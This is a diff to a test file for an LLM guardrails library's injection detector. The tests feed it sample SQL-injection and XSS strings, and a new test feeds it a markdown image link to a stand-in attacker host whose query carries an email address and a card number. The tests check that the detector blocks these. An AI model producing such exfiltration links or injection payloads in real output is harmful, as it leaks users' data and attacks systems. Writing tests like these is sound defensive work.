@@ -3,7 +3,7 @@
 // rxguardrails' patterns (its own, not NeMo's YARA rules) on payloads of the same classes and on ordinary answers;
 // and their cost: linear in the window, measured by growth ratio on adversarial text.
 import fc from 'fast-check';
-import { ConfigError, InvalidOptionError, LLMRails, RailsConfig, RailViolationError } from 'rxguardrails';
+import { ConfigError, InvalidOptionError, LLMRails, type RailDecision, RailsConfig, RailViolationError } from 'rxguardrails';
 import { injectionDetection, type InjectionRule } from 'rxguardrails/detectors';
 import { collect } from '../support/collect.js';
 
@@ -81,6 +81,13 @@ describe('injectionDetection', () => {
   it('should apply only the rule sets it is given', () => {
     expect(check(['code', 'template', 'xss'], "' OR 1 = 1")).toBe(true);
     expect(check(['sqli'], "<script>alert('xss')</script>")).toBe(true);
+  });
+
+  it("should not carry in its verdict the data an exfiltration link's query holds", () => {
+    const text = '![logo](https://evil.example/p.png?email=alice@example.org&card=4111111111111111&x=1)';
+    const decision = injectionDetection({ injections: ['xss'] }).check(text, context(text)) as RailDecision;
+    expect(decision.allowed).toBe(false);
+    expect(JSON.stringify(decision)).not.toMatch(/alice|4111/);
   });
 
   it('should name every rule set that matched, in the order given, and the first match', () => {
